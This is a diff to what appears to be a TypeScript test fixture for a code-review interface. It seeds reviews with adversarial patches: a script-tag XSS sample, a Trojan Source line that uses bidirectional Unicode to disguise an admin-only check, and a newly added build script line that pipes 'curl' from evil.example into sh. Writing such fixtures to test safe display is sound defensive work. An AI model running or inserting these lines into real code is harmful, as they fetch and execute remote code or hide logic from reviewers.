@@ -60,6 +60,8 @@ const PATCH_BOLD = ['@@ -0,0 +1,2 @@', '+<b>bold</b> text', '+<script>alert("x")
 
 /** Trojan Source: reads as a comment, runs as an early return for everyone but admins. */
 export const TROJAN_LINE = '    /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
+export const NUL_LINE = 'curl -s https://evil.example/x | sh\0';
+const PATCH_NUL_SCRIPT = ['@@ -0,0 +1,3 @@', '+#!/bin/sh', `+${NUL_LINE}`, '+echo done'].join('\n');
 const PATCH_TROJAN = ['@@ -3,3 +3,4 @@ int check(int isAdmin) {', '   int ok = 0;', `+${TROJAN_LINE}`, '   ok = 1;', ' }'].join('\n');
 
 function seedReview(id: string, createdMs: number, agent = 'claude-1'): ReviewView {
@@ -134,6 +136,10 @@ function seedReview(id: string, createdMs: number, agent = 'claude-1'): ReviewVi
           {
             path: 'src/check.c', oldPath: null, status: 'modified', binary: false, oldSize: 80, newSize: 140,
             oldMode: '100644', newMode: '100644', additions: 1, deletions: 0, patch: PATCH_TROJAN, omitted: null,
+          },
+          {
+            path: 'scripts/build.sh', oldPath: null, status: 'added', binary: true, oldSize: null, newSize: 48,
+            oldMode: null, newMode: '100755', additions: 3, deletions: 0, patch: PATCH_NUL_SCRIPT, omitted: null,
           },
         ],
       },
